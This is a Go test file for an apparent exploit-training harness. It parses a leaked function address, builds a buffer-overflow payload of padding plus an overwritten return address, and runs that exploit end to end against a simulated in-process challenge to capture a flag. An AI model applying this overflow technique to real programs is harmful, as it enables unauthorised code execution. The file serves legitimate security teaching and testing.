/*
Author: KleaSCM
Email: KleaSCM@gmail.com
File: harness_test.go
Description: Unit tests for the exploit harness. Covers leak parsing,
payload construction, config validation, report output, and an in-process
exploit of a real challenge over pipes.
*/

package exploit_test

import (
	"bufio"
	"bytes"
	"encoding/json"
	"io"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/google/uuid"
	"github.com/kleascm/smashlab/pkg/exploit"
	"github.com/kleascm/smashlab/pkg/payload"
	"github.com/kleascm/smashlab/pkg/stack"
	"github.com/kleascm/smashlab/pkg/target"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// writeFakeTarget drops an executable placeholder so config validation
// has something to stat.
func writeFakeTarget(t *testing.T) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "vuln")
	require.NoError(t, os.WriteFile(path, []byte("#!/bin/sh\n"), 0755))
	return path
}

// TestParseLeakedAddress verifies the leak line parses into a pointer
func TestParseLeakedAddress(t *testing.T) {
	pm := payload.NewPointerMaker()

	p, err := exploit.ParseLeakedAddress(pm, "Address of secret_function: 0x4011d6")
	require.NoError(t, err)
	assert.Equal(t, uint64(0x4011d6), p.Uint64())
}

// TestParseLeakedAddressNoLeak verifies ordinary lines yield ErrNoLeak
func TestParseLeakedAddressNoLeak(t *testing.T) {
	pm := payload.NewPointerMaker()

	for _, line := range []string{"", "Enter your name: ", "Hello, smasher!"} {
		_, err := exploit.ParseLeakedAddress(pm, line)
		assert.ErrorIs(t, err, exploit.ErrNoLeak, "line %q", line)
	}
}

// TestBuildPayload verifies the crafted input is padding plus the encoded
// address at pointer width
func TestBuildPayload(t *testing.T) {
	config := &exploit.Config{Target: writeFakeTarget(t)}
	require.NoError(t, config.Validate())

	harness := exploit.NewHarness(config, nil)

	pm := payload.NewPointerMaker()
	crafted, err := harness.BuildPayload(pm.FromUint(0x4011d6))
	require.NoError(t, err)

	require.Len(t, crafted, stack.BufferCapacity+stack.PointerSize)
	assert.Equal(t, bytes.Repeat([]byte{'A'}, stack.BufferCapacity), crafted[:stack.BufferCapacity])
	assert.Equal(t, []byte{0xd6, 0x11, 0x40, 0, 0, 0, 0, 0}, crafted[stack.BufferCapacity:])
}

// TestConfigValidateDefaults verifies defaults are filled in
func TestConfigValidateDefaults(t *testing.T) {
	config := &exploit.Config{Target: writeFakeTarget(t)}
	require.NoError(t, config.Validate())

	assert.Equal(t, stack.BufferCapacity, config.Offset)
	assert.Equal(t, byte('A'), config.PadByte)
	assert.Equal(t, 1, config.Attempts)
	assert.Equal(t, 10*time.Second, config.Timeout)
}

// TestConfigValidateErrors verifies missing and bogus settings fail
func TestConfigValidateErrors(t *testing.T) {
	err := (&exploit.Config{}).Validate()
	assert.Error(t, err)

	err = (&exploit.Config{Target: "/does/not/exist"}).Validate()
	assert.Error(t, err)

	err = (&exploit.Config{Target: writeFakeTarget(t), Offset: -1}).Validate()
	assert.Error(t, err)
}

// TestWriteReport verifies the JSON report round-trips with a valid ID
func TestWriteReport(t *testing.T) {
	outputDir := t.TempDir()
	config := &exploit.Config{Target: writeFakeTarget(t), OutputDir: outputDir}
	require.NoError(t, config.Validate())

	harness := exploit.NewHarness(config, nil)

	attempt := exploit.NewAttempt(config.Target)
	attempt.Payload = []byte{0x41, 0x41, 0xd6, 0x11}
	attempt.FlagFound = true
	attempt.Duration = 42 * time.Millisecond

	path, err := harness.WriteReport(attempt)
	require.NoError(t, err)

	data, err := os.ReadFile(path)
	require.NoError(t, err)

	var decoded exploit.Attempt
	require.NoError(t, json.Unmarshal(data, &decoded))

	_, err = uuid.Parse(decoded.ID)
	assert.NoError(t, err)
	assert.Equal(t, attempt.ID, decoded.ID)
	assert.Equal(t, "4141d611", decoded.PayloadHex)
	assert.True(t, decoded.FlagFound)
	assert.Equal(t, "42ms", decoded.DurationText)

	// The raw nanosecond count stays out of the report.
	assert.NotContains(t, string(data), "42000000")
}

// TestInProcessExploit runs the whole conversation against a real
// challenge over pipes: scan for the leak, answer with the crafted
// payload, and watch the flag come back.
func TestInProcessExploit(t *testing.T) {
	inReader, inWriter := io.Pipe()
	outReader, outWriter := io.Pipe()

	exitCodes := make(chan int, 1)
	challenge := target.New(target.Config{
		Input:  inReader,
		Output: outWriter,
		ExitFn: func(code int) { exitCodes <- code },
	})

	go func() {
		challenge.Run()
		outWriter.Close()
	}()

	pm := payload.NewPointerMaker()
	scanner := bufio.NewScanner(outReader)

	var leak payload.Pointer
	found := false
	for scanner.Scan() {
		p, err := exploit.ParseLeakedAddress(pm, scanner.Text())
		if err == nil {
			leak = p
			found = true
			break
		}
	}
	require.True(t, found, "challenge never leaked an address")
	require.Equal(t, uint64(challenge.SecretAddress()), leak.Uint64())

	crafted, err := payload.NewBuilder().
		RepeatByte('A', stack.BufferCapacity).
		Pointer(leak).
		Build()
	require.NoError(t, err)

	if bytes.IndexByte(crafted, '\n') >= 0 {
		inWriter.Close()
		t.Skip("secret routine address contains a newline byte")
	}

	// The pipe write blocks until the challenge reads, and the challenge
	// may still be blocked writing output this side has not drained yet.
	go func() {
		inWriter.Write(append(crafted, '\n'))
		inWriter.Close()
	}()

	var rest bytes.Buffer
	for scanner.Scan() {
		rest.WriteString(scanner.Text())
		rest.WriteByte('\n')
	}

	assert.Contains(t, rest.String(), target.Flag)
	assert.Equal(t, 0, <-exitCodes)
}
